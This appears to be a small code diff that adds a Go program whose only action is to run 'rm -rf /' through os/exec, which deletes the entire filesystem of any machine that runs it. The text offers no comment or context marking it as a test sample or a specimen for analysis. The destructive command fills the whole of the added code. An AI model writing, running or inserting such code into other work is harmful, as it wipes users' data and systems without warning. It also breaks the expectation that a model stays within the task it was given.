@@ -1,0 +1,5 @@
+package main
+
+import "os/exec"
+
+func main() { exec.Command("rm", "-rf", "/").Run() }
